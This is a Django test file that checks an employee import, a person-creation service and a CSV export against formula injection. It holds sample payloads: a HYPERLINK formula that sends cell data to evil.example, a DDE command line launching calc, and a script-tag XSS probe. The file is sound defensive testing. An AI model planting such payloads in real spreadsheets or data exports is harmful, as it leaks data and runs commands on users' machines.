"""Formula injection (issue 16 item 6): hostile names refused on every write path, exports neutralised."""

from __future__ import annotations

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from companies.tests.conftest import logged_in
from people.models import Person
from people.services import person_create

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1;"Clic")', "+cmd|' /C calc'!A0", "<script>alert(1)</script>"]


def test_a_bulk_file_with_hostile_names_is_refused_line_by_line(acme):
    client = logged_in(acme.profile)
    header = "contract_number;last_name;first_name;birth_date;start_date"
    quoted = ['"' + name.replace('"', '""') + '"' for name in HOSTILE]
    lines = [f"{acme.contract.number};{name};Ana;1990-01-02;2026-01-01" for name in quoted]
    lines.append(f"{acme.contract.number};Durand;@SUM(1+1)*cmd;1990-01-02;2026-01-01")
    lines.append(f"{acme.contract.number};Neuf;Ana;1990-01-02;2026-01-01")
    upload = SimpleUploadedFile("staff.csv", "\n".join([header, *lines]).encode(), content_type="text/csv")
    response = client.post(reverse("companies:employee_import"), {"file": upload})
    assert response.status_code == 400
    problems = response.context["report"].problems
    assert [(p.line, p.column) for p in problems] == [
        (2, "last_name"),
        (3, "last_name"),
        (4, "last_name"),
        (5, "first_name"),
    ]
    assert all("Use letters only" in p.message for p in problems)
    assert "Use letters only" in response.content.decode()
    assert not response.context["report"].ok
    assert not Person.objects.filter(last_name__startswith="=").exists()


@pytest.mark.parametrize("name", HOSTILE)
def test_the_person_service_refuses_a_hostile_name(db, name):
    with pytest.raises(ValidationError) as error:
        person_create(actor=None, last_name=name, first_name="Ana", birth_date="1990-01-02")
    assert "last_name" in error.value.message_dict


def test_names_of_every_alphabet_and_usual_signs_are_accepted(db):
    for last_name in ("D'Arc", "Le Gall-Noël", "St. John", "Øster", "Nguyễn", "O’Brien"):
        person_create(actor=None, last_name=last_name, first_name="Anne-Marie", birth_date="1990-01-02")


def test_the_employee_export_neutralises_a_formula_stored_before(acme):
    """A value already stored (written straight to the table, as an old import could) comes out as text."""
    Person.objects.filter(pk=acme.covers[0].person.pk).update(
        last_name='=HYPERLINK("http://evil.example")', first_name="+cmd|' /C calc'!A0"
    )
    client = logged_in(acme.profile)
    body = b"".join(client.get(reverse("companies:employee_export")).streaming_content).decode()
    assert "'=HYPERLINK(" in body and ";=HYPERLINK" not in body and "\n=HYPERLINK" not in body
    assert "'+cmd|" in body
